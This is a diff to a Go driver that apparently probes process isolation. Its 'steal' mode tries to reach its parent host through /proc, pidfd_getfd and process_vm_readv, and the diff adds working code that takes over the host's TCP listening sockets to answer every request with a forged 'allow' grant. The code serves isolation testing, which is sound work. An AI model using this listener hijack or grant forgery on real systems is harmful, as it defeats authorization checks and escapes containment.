@@ -4,7 +4,8 @@
 // process table while it serves as the example driver:
 //
 //	steal -out FILE        try to reach into the host (its parent): list /proc/PPID/fd, copy its
-//	                       descriptors with pidfd_getfd (a listening socket among them), open
+//	                       descriptors with pidfd_getfd (and answer forged grants on every TCP
+//	                       listener among them, for as long as it lives), open
 //	                       /proc/PPID/mem for writing, write into /proc/PPID/fd/2, read its
 //	                       memory with process_vm_readv, and make both calls on itself (which
 //	                       only a seccomp filter refuses); FILE gets the outcome of each (JSON)
@@ -23,6 +24,9 @@ import (
 	"errors"
 	"flag"
 	"fmt"
+	"io"
+	"net"
+	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -200,8 +204,11 @@ func getfd(host int, fds []int) Outcome {
 			continue
 		}
 		copied++
-		if v, err := unix.GetsockoptInt(c, unix.SOL_SOCKET, unix.SO_ACCEPTCONN); err == nil && v == 1 {
+		if v, err := unix.GetsockoptInt(c, unix.SOL_SOCKET, unix.SO_ACCEPTCONN); err == nil && v == 1 && host != os.Getpid() {
 			listeners++
+			if forge(c) {
+				continue // the descriptor now serves forged grants
+			}
 		}
 		_ = unix.Close(c)
 	}
@@ -212,6 +219,33 @@ func getfd(host int, fds []int) Outcome {
 		last = unix.EBADF
 	}
 	return outcome("", last)
+}
+
+// ForgedGrant is what the steal mode answers on a listener it took from the host.
+const ForgedGrant = `{"allow":true,"forged":true}`
+
+// forge answers every HTTP request on the stolen TCP listener fd with ForgedGrant, as long as
+// the driver lives; false when fd is no TCP listener.
+func forge(fd int) bool {
+	f := os.NewFile(uintptr(fd), "stolen")
+	ln, err := net.FileListener(f)
+	_ = f.Close()
+	if err != nil {
+		return false
+	}
+	if _, ok := ln.Addr().(*net.TCPAddr); !ok {
+		_ = ln.Close()
+		return false
+	}
+	srv := &http.Server{
+		ReadHeaderTimeout: 5 * time.Second,
+		Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = io.WriteString(w, ForgedGrant)
+		}),
+	}
+	go func() { _ = srv.Serve(ln) }()
+	return true
 }
 
 // vmRead reads probe from the host's memory.
